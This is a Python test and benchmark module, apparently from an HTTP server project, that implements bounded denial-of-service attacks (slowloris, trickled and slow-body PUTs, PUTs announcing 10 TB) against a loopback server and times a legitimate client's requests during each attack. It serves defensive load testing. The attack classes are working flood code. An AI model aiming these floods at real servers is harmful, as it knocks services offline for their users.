"""Availability attacks on a loopback server, for tests and ``bench/attack.py``.

Each attack is a context manager that runs ``count`` hostile connections in background threads
until it is left; a connection the server closes is opened again after ``interval_s``,
so the server's defence has to hold for the whole time, not just once. Every loop is bounded
(``MAX_ROUNDS`` reconnections, ``max_s`` seconds) and every socket has a timeout.

- ``trickle_puts``: PUTs without credentials announcing ``Content-Length: 100000``, one body
  byte every ``interval_s``;
- ``slow_puts``: the same with one user's valid Basic credentials;
- ``slowloris``: a request line, then one more header line every ``interval_s``;
- ``huge_puts``: authenticated PUTs announcing 10 TB, then body bytes as fast as possible.

``Legit`` times a well-behaved client's requests while an attack runs.
"""

from __future__ import annotations

import base64
import contextlib
import select
import socket
import ssl
import statistics
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx

MAX_ROUNDS = 500
TEN_TB = 10 * 1000**4


@dataclass(frozen=True)
class Target:
    """Where to attack: a loopback ``host:port``, over TLS if ``tls`` is set."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None
    source: str | None = None  # bind the attacking sockets to this local address

    @classmethod
    def of(cls, url: str, tls: ssl.SSLContext | None = None, source: str | None = None) -> Target:
        """The target of a server URL."""
        u = urlsplit(url)
        assert u.hostname is not None and u.port is not None
        return cls(u.hostname, u.port, tls if u.scheme == "https" else None, source)

    @property
    def netloc(self) -> str:
        """``host:port`` for the Host header."""
        return f"{self.host}:{self.port}"

    def connect(self, timeout: float = 10.0) -> socket.socket:
        """A connected (TLS: handshaken) socket."""
        source = None if self.source is None else (self.source, 0)
        sock = socket.create_connection((self.host, self.port), timeout, source)
        if self.tls is None:
            return sock
        try:
            return self.tls.wrap_socket(sock, server_hostname=self.host)
        except BaseException:
            sock.close()
            raise


def basic_auth(user: str, password: str) -> str:
    """An ``Authorization`` header line for Basic credentials."""
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return f"Authorization: Basic {token}\r\n"


@dataclass
class Tally:
    """What the attacking connections saw (updated from their threads)."""

    connections: int = 0
    answered: int = 0  # the server sent a response (a refusal, usually)
    cut: int = 0  # the server closed without a response
    failed: int = 0  # could not connect or write at all
    statuses: dict[int, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def note(self, what: str, status: int = 0) -> None:
        """Count one outcome."""
        with self.lock:
            setattr(self, what, getattr(self, what) + 1)
            if status:
                self.statuses[status] = self.statuses.get(status, 0) + 1


def _status_of(data: bytes) -> int:
    if data.startswith(b"HTTP/") and len(data) >= 12 and data[9:12].isdigit():
        return int(data[9:12])
    return 0


def _readable(sock: socket.socket) -> bool:
    """Whether ``sock`` has something to read (or was closed), without waiting; ``poll``, not
    ``select``, so descriptors above 1023 (a long test session) work too."""
    poller = select.poll()
    poller.register(sock, select.POLLIN | select.POLLHUP | select.POLLERR)
    return bool(poller.poll(0))


def _closed_or_answered(sock: socket.socket) -> bytes | None:
    """What the server sent since the last look (``b""``: it closed), or None (nothing)."""
    pending = isinstance(sock, ssl.SSLSocket) and sock.pending() > 0
    if not pending and not _readable(sock):
        return None
    try:
        return sock.recv(4096) or b""
    except (ssl.SSLWantReadError, BlockingIOError):
        return None
    except OSError:
        return b""


class Attack:
    """``count`` connections, each sending ``head`` then ``drip`` every ``interval_s``."""

    def __init__(
        self,
        target: Target,
        count: int,
        head: Callable[[int], bytes],
        drip: Callable[[int], bytes],
        *,
        interval_s: float = 0.5,
        max_s: float = 120.0,
    ) -> None:
        self.target = target
        self.count = count
        self.head = head
        self.drip = drip
        self.interval_s = interval_s
        self.max_s = max_s
        self.tally = Tally()
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._socks: set[socket.socket] = set()
        self._socks_lock = threading.Lock()

    def __enter__(self) -> Attack:
        for i in range(self.count):
            t = threading.Thread(target=self._attacker, args=(i,), daemon=True)
            self._threads.append(t)
            t.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def stop(self) -> None:
        """Stop every attacking connection and wait for the threads."""
        self._stop.set()
        with self._socks_lock:
            for sock in list(self._socks):
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
        for t in self._threads:
            t.join(10)

    def _attacker(self, i: int) -> None:
        deadline = time.monotonic() + self.max_s
        for _round in range(MAX_ROUNDS):
            if self._stop.is_set() or time.monotonic() > deadline:
                return
            try:
                sock = self.target.connect()
            except OSError:
                self.tally.note("failed")
                self._stop.wait(self.interval_s)
                continue
            with self._socks_lock:
                self._socks.add(sock)
            try:
                self._one_connection(i, sock, deadline)
            finally:
                with self._socks_lock:
                    self._socks.discard(sock)
                sock.close()
            self._stop.wait(self.interval_s)  # then try again, as a client retrying would

    def _one_connection(self, i: int, sock: socket.socket, deadline: float) -> None:
        self.tally.note("connections")
        try:
            sock.sendall(self.head(i))
        except OSError:
            self.tally.note("cut")
            return
        while not self._stop.is_set() and time.monotonic() < deadline:
            seen = _closed_or_answered(sock)
            if seen is not None:
                status = _status_of(seen)
                self.tally.note("answered" if status else "cut", status)
                return
            if self.interval_s:
                self._stop.wait(self.interval_s)
            try:
                sock.sendall(self.drip(i))
            except OSError:
                seen = _closed_or_answered(sock) or b""
                status = _status_of(seen)
                self.tally.note("answered" if status else "cut", status)
                return


def _put_head(target: Target, path: str, length: int, auth: str = "") -> bytes:
    return (
        f"PUT {path} HTTP/1.1\r\nHost: {target.netloc}\r\n{auth}"
        f"Content-Type: application/octet-stream\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def trickle_puts(
    target: Target, path_of: Callable[[int], str], count: int = 64, interval_s: float = 0.5
) -> Attack:
    """Unauthenticated PUTs that announce 100 000 bytes and send one every ``interval_s``."""
    return Attack(
        target,
        count,
        lambda i: _put_head(target, path_of(i), 100_000),
        lambda i: b"x",
        interval_s=interval_s,
    )


def slow_puts(
    target: Target,
    path_of: Callable[[int], str],
    user: str,
    password: str,
    count: int = 40,
    interval_s: float = 0.5,
) -> Attack:
    """One user's PUTs (Basic credentials) that send one byte of 100 000 every ``interval_s``."""
    auth = basic_auth(user, password)
    return Attack(
        target,
        count,
        lambda i: _put_head(target, path_of(i), 100_000, auth),
        lambda i: b"x",
        interval_s=interval_s,
    )


def slowloris(target: Target, path: str, count: int = 100, interval_s: float = 0.5) -> Attack:
    """Requests whose headers never end: one more header line every ``interval_s``."""
    return Attack(
        target,
        count,
        lambda i: f"GET {path} HTTP/1.1\r\nHost: {target.netloc}\r\n".encode(),
        lambda i: b"X-Slow: x\r\n",
        interval_s=interval_s,
    )


def huge_puts(
    target: Target, path_of: Callable[[int], str], user: str, password: str, count: int = 4
) -> Attack:
    """PUTs announcing 10 TB (valid credentials), then body bytes as fast as possible."""
    auth = basic_auth(user, password)
    block = b"\0" * 65536
    return Attack(
        target,
        count,
        lambda i: _put_head(target, path_of(i), TEN_TB, auth),
        lambda i: block,
        interval_s=0.0,
    )


@dataclass
class Latencies:
    """Latencies (seconds) of a legitimate client's requests; a failure counts as ``timeout_s``."""

    samples: list[float] = field(default_factory=list)
    failures: int = 0
    statuses: list[int] = field(default_factory=list)

    def quantile(self, q: float) -> float:
        """The ``q`` quantile (0..1) of the samples."""
        if not self.samples:
            return float("nan")
        if len(self.samples) == 1:
            return self.samples[0]
        cuts = statistics.quantiles(self.samples, n=100, method="inclusive")
        return cuts[min(98, max(0, round(q * 100) - 1))]

    @property
    def worst(self) -> float:
        """The slowest request."""
        return max(self.samples, default=float("nan"))


def time_requests(
    request: Callable[[httpx.Client], httpx.Response],
    client: httpx.Client,
    n: int,
    *,
    pause_s: float = 0.1,
    timeout_s: float = 10.0,
) -> Latencies:
    """Issue ``request`` ``n`` times (a pause between them) and time each one alone."""
    out = Latencies()
    for _ in range(n):
        started = time.monotonic()
        try:
            r = request(client)
            out.statuses.append(r.status_code)
            out.samples.append(time.monotonic() - started)
        except httpx.HTTPError:
            out.failures += 1
            out.samples.append(max(timeout_s, time.monotonic() - started))
        time.sleep(pause_s)
    return out


@contextlib.contextmanager
def running(attack: Attack, settle_s: float = 1.0) -> Iterator[Attack]:
    """Start ``attack`` and give it ``settle_s`` to take hold before the body runs."""
    with attack:
        time.sleep(settle_s)
        yield attack
